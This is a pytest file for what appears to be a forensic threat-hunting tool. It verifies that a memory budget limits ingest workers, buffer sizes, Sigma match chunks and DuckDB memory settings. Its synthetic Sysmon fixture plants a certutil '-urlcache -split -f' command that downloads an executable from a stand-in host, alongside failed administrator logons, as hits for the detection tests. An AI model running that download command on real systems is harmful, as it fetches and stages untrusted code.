"""``--max-memory`` reaches the ingest workers, the Sigma match and every DuckDB connection.

Asserts on what a run applies and records (worker processes, rows per buffer and part,
chunk rows, DuckDB's ``memory_limit`` and ``temp_directory``), never on time or RSS.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import duckdb
import pytest

import tidehunt.ingest as ingest_mod
from tidehunt import engine
from tidehunt.case.store import CaseStore
from tidehunt.context import RunContext
from tidehunt.detect.sigma import run
from tidehunt.memory import (
    INGEST_BASE,
    INGEST_ROW_BYTES,
    MAIN_RESERVE,
    MATCH_BASE,
    MATCH_ROW_BYTES,
    MIN_CHUNK_ROWS,
    MIN_FLUSH_ROWS,
    MIN_PART_ROWS,
    PART_ROW_BYTES,
    IngestLimits,
    IngestPlan,
    MatchPlan,
    MemoryBudget,
    ingest_plan,
    match_plan,
    size_bytes,
)
from tidehunt.sources import _lines, _winrows

DEFAULTS = {"flush_rows": _winrows.FLUSH_ROWS, "part_rows": ingest_mod.PART_ROWS,
            "block_bytes": _lines.BLOCK_BYTES}


def test_default_budget_keeps_the_default_buffers():
    b = MemoryBudget.parse("2GB")
    assert b is not None
    assert b.ingest(2, **DEFAULTS) == IngestPlan(2, IngestLimits(65_536, 65_536, 8 << 20))
    assert b.match(2, chunk_rows=run.CHUNK_ROWS) == MatchPlan(2, 98_304)
    # from 4 GiB on, two threads match chunks side by side; never with one worker
    big = MemoryBudget.parse("4GiB")
    assert big is not None and big.match(2, chunk_rows=run.CHUNK_ROWS).threads == 2
    assert big.match(1, chunk_rows=run.CHUNK_ROWS).threads == 1
    assert b.duckdb_limit() == "1335MiB"  # 70% of 2e9 bytes, as before
    # no budget: the defaults, whatever the number of workers
    assert ingest_plan(None, 8, **DEFAULTS) == IngestPlan(8, IngestLimits(65_536, 65_536,
                                                                          8 << 20))
    assert match_plan(None, 8, chunk_rows=run.CHUNK_ROWS) == MatchPlan(8, 98_304)
    assert MemoryBudget.parse(None) is None


@pytest.mark.parametrize("size", ["1200MB", "1GB", "768MB", "512MB", "256MB"])
def test_smaller_budget_fewer_workers_smaller_buffers(size):
    small, full = MemoryBudget.parse(size), MemoryBudget.parse("2GB")
    assert small is not None and full is not None
    si, fi = small.ingest(2, **DEFAULTS), full.ingest(2, **DEFAULTS)
    sm, fm = small.match(2, chunk_rows=run.CHUNK_ROWS), full.match(2, chunk_rows=run.CHUNK_ROWS)
    assert si.workers <= fi.workers and si.limits.flush_rows <= fi.limits.flush_rows
    assert (si.workers, si.limits.flush_rows) != (fi.workers, fi.limits.flush_rows)
    # parts shrink with the buffer, but not below MIN_PART_ROWS (each costs every scan)
    assert min(MIN_PART_ROWS, fi.limits.part_rows) <= si.limits.part_rows \
        <= fi.limits.part_rows
    assert sm.workers <= fm.workers and sm.chunk_rows <= fm.chunk_rows
    # what was planned fits the budget, unless it is at the floor (one process, fewest rows)
    held = (si.limits.flush_rows * INGEST_ROW_BYTES
            + max(0, si.limits.part_rows - si.limits.flush_rows) * PART_ROW_BYTES)
    if si.workers > 1:
        assert MAIN_RESERVE + si.workers * (INGEST_BASE + held) <= small.total
    elif si.limits.flush_rows > MIN_FLUSH_ROWS:
        assert MAIN_RESERVE + held <= small.total
    if sm.workers > 1:
        assert MAIN_RESERVE + sm.workers * (MATCH_BASE + sm.chunk_rows
                                            * MATCH_ROW_BYTES) <= small.total
    elif sm.chunk_rows > MIN_CHUNK_ROWS:
        assert MAIN_RESERVE + sm.chunk_rows * MATCH_ROW_BYTES <= small.total
    assert size_bytes(small.duckdb_limit()) < size_bytes(full.duckdb_limit())


def test_more_workers_than_the_budget_holds_are_not_started():
    b = MemoryBudget.parse("2GB")
    assert b is not None
    assert b.ingest(16, **DEFAULTS).workers < 16
    assert b.match(16, chunk_rows=run.CHUNK_ROWS).workers < 16


def _two_workers_smallest() -> tuple[str, IngestPlan]:
    """The smallest budget (10 MB steps) whose ingest plan still has two workers."""
    for mb in range(600, 2000, 10):
        p = MemoryBudget(mb * 10**6).ingest(2, **DEFAULTS)
        if p.workers == 2:
            return f"{mb}MB", p
    raise AssertionError("no budget under 2GB plans two ingest workers")


def _event(i: int, host: str) -> dict[str, Any]:
    kind = i % 4
    system = {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
              "EventID": 1, "EventRecordID": i + 1,
              "TimeCreated": {"#attributes": {"SystemTime":
                                              f"2026-11-02T{i // 3600 % 24:02d}:"
                                              f"{i // 60 % 60:02d}:{i % 60:02d}.{i:06d}Z"}},
              "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host}
    data: dict[str, Any] = {"Image": "C:\\Windows\\System32\\svchost.exe",
                            "CommandLine": f"svchost.exe -k netsvcs -p -s Task{i % 97}",
                            "User": f"CORP\\u{i % 50}", "ProcessId": 1000 + i % 5000}
    if kind == 1:
        system |= {"EventID": 4625, "Channel": "Security",
                   "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}}
        data = {"TargetUserName": "administrator", "IpAddress": "185.220.101.7",
                "LogonType": 3}
    elif i % 500 == 0:  # hits for the findings and the correlations
        data |= {"Image": "C:\\Windows\\System32\\certutil.exe",
                 "CommandLine": f"certutil.exe -urlcache -split -f http://x/{i} a.exe",
                 "OriginalFileName": "CertUtil.exe"}
    return {"Event": {"System": system, "EventData": data}}


@pytest.fixture(scope="module")
def evidence(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("ev")
    for f in range(2):
        with open(d / f"host{f}.json", "w", encoding="utf-8") as fh:
            for i in range(40_000):
                fh.write(json.dumps(_event(i, f"WS{f}")) + "\n")
    return d


class _Spy:
    """A DuckDB connection that records its memory settings when it is closed."""

    seen: list[tuple[str, str]] = []

    def __init__(self, con: Any) -> None:
        self._con = con

    def __getattr__(self, name: str) -> Any:
        return getattr(self._con, name)

    def close(self) -> None:
        got = self._con.execute("SELECT current_setting('memory_limit'), "
                                "current_setting('temp_directory')").fetchone()
        _Spy.seen.append((got[0], got[1]))
        self._con.close()


def _table(case: Path) -> list[dict[str, Any]]:
    t = CaseStore(case).sql("SELECT * FROM windows ORDER BY _artefact, _locator")
    return [{k: v for k, v in sorted(r.items()) if v is not None} for r in t.to_pylist()]


def test_budget_reaches_workers_match_and_duckdb(evidence, tmp_path, monkeypatch):
    monkeypatch.setattr(ingest_mod, "IN_PROCESS_BYTES", 0)  # workers even for this case
    size, want = _two_workers_smallest()
    assert want.limits.flush_rows < want.limits.part_rows < 40_000  # both cut a file
    opts = engine.HuntOptions(outputs=("jsonl",), feeds=False, bundled_intel=False,
                              workers=2)
    full = engine.hunt([str(evidence)], tmp_path / "full", RunContext(), opts)

    real_connect = duckdb.connect
    monkeypatch.setattr(duckdb, "connect", lambda *a, **k: _Spy(real_connect(*a, **k)))
    _Spy.seen = []
    opts.max_memory = size
    small = engine.hunt([str(evidence)], tmp_path / "small", RunContext(), opts)
    budget = MemoryBudget.parse(size)
    assert budget is not None

    # ingest: the plan's workers, and parts of the plan's rows written by those workers
    mem = small.stats["memory"]
    assert mem["ingest"] == {"workers": 2, "flush_rows": want.limits.flush_rows,
                             "part_rows": want.limits.part_rows,
                             "block_bytes": want.limits.block_bytes}
    man = json.loads((tmp_path / "small" / "manifest.json").read_text())
    rows = sorted(p["rows"] for p in man["parts"].values())
    assert sum(rows) == 80_000 and len(rows) >= 4
    # a part is written once it holds part_rows: at most one flush's batches beyond them
    assert want.limits.part_rows <= max(rows) < want.limits.part_rows + want.limits.flush_rows
    assert man["runs"][-1]["memory"] == mem
    full_rows = [p["rows"] for p in json.loads(
        (tmp_path / "full" / "manifest.json").read_text())["parts"].values()]
    assert full_rows == [40_000, 40_000]  # one part per file (its own task)
    # match: the budget's workers and chunk rows
    assert mem["match"] == {"workers": budget.match(2, chunk_rows=run.CHUNK_ROWS).workers,
                            "chunk_rows": budget.match(2, chunk_rows=run.CHUNK_ROWS).chunk_rows,
                            "threads": 1, "stream": False}
    assert full.stats["memory"]["match"] == {"workers": 2, "chunk_rows": 98_304,
                                             "threads": 1, "stream": False}
    # DuckDB: every connection of the run (analytics, correlations, posture, catalogue)
    # got the budget's share (the analytics half of it when they ran beside findings of
    # HALF_SHARE_HITS hits or more); the in-memory ones spill into the case
    assert mem["duckdb_memory_limit"] == budget.duckdb_limit()
    assert len(_Spy.seen) >= 4
    beside = small.stats["sigma"]["hits"] >= max(engine.OVERLAP_HITS, engine.HALF_SHARE_HITS)
    for limit, spill in _Spy.seen:
        share = 0.5 if beside and ".work-analytics-" in spill else 1.0
        assert size_bytes(limit.replace(" ", "")) == size_bytes(budget.duckdb_limit(share))
    assert any(".work-analytics-" in spill for _, spill in _Spy.seen)
    spills = [t for _, t in _Spy.seen if t.startswith(str(tmp_path / "small") + "/")]
    assert len(spills) >= 3  # analytics, correlations, posture
    assert not list((tmp_path / "small").glob(".tmp-duckdb-*"))  # removed when closed
    # the same rows and the same findings
    assert small.findings_count == full.findings_count > 0
    assert _table(tmp_path / "small") == _table(tmp_path / "full")
    # (both hosts log at the same instants: correlation windows must not depend on the
    # order the parts came in)
    assert _finding_ids(tmp_path / "small") == _finding_ids(tmp_path / "full")


def _finding_ids(case: Path) -> list[str]:
    with open(case / "findings.jsonl", encoding="utf-8") as fh:
        return sorted(json.loads(line)["finding_id"] for line in fh)


def test_store_connections_get_the_budget(tmp_path):
    store = CaseStore(tmp_path / "c", create=True)
    con = store.connect()
    assert con.execute("SELECT current_setting('temp_directory')").fetchone()[0] != \
        str(store.root)  # no budget: DuckDB's defaults
    con.close()
    store.budget = MemoryBudget.parse("1GB")
    con = store.connect()
    limit, temp = con.execute("SELECT current_setting('memory_limit'), "
                              "current_setting('temp_directory')").fetchone()
    con.close()
    # 1GB: 90% of what the main process leaves (under 70% of the budget, 667 MiB)
    assert size_bytes(limit.replace(" ", "")) == 512 << 20
    assert Path(temp).parent == store.root and Path(temp).name.startswith(".tmp-duckdb-")
